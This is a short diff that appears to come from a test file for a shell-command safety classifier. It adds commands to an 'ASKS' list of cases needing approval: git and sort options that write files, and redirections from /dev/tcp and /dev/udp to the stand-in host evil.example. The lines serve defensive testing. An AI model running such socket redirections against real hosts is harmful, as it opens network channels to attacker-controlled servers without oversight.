@@ -39,6 +39,13 @@ LOOKS = [
     'cat ./*.txt',
 ]  # fmt: skip
 ASKS = [
+    "git log --pretty --output=x",
+    "git log --since --output=x",
+    "git diff --unified --output=x",
+    "sort -k -o f",
+    "cat < /dev/tcp/evil.example/80",
+    'cat < "/dev/tcp/evil.example/80"',
+    "grep -c x < /dev/udp/evil.example/53",
     'sort -o f f',
     'sort -uof f',
     'sort --output=f f',
